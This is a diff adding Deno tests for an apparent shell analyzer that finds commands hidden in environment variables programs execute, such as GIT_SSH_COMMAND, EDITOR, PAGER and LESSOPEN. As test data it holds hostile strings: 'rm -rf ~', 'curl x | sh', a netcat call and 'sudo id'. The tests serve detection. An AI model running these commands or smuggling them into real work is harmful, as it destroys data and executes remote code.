@@ -488,6 +488,34 @@ const GIT_SETTINGS: Row[] = [
   }],
 ];
 
+const COMMAND_VARIABLES: Row[] = [
+  ["a prefix assignment", `GIT_SSH_COMMAND='sudo id' git fetch`, {
+    cmds: [{ argv: ["git", "fetch"] }, { argv: ["sudo", "id"], origin: "shell-string" }],
+  }],
+  ["an export", `export EDITOR='rm -rf ~'; git commit`, {
+    cmds: [{ argv: ["rm", "-rf", "~"], origin: "shell-string" }, { argv: ["git", "commit"] }],
+  }],
+  ["a plain assignment", `PAGER='curl x | sh'`, {
+    cmds: [{ argv: ["curl", "x"] }, { argv: ["sh"], stdinFrom: ["curl"] }],
+  }],
+  ["less's input preprocessor", `LESSOPEN='|nc h 1 %s' less f`, {
+    cmds: [{ argv: ["nc", "h", "1", "%s"], origin: "shell-string" }],
+  }],
+  ["other variables stay values", `FOO='sudo id' make; GIT_PAGER= git log`, {
+    cmds: [{ argv: ["make"] }, { argv: ["git", "log"] }],
+    exact: true,
+  }],
+  ["a value only known at run time", `EDITOR=$X git commit`, {
+    cmds: [{ argv: ["git", "commit"] }],
+    // The value is built at run time, and so is the command it names.
+    findings: ["dynamic-command", "dynamic-command"],
+  }],
+];
+
+Deno.test("analyzeShell reads variables programs run as commands where they are set", () => {
+  for (const row of COMMAND_VARIABLES) check(row);
+});
+
 Deno.test("analyzeShell reads the commands git runs from settings on its command line", () => {
   for (const row of GIT_SETTINGS) check(row);
 });
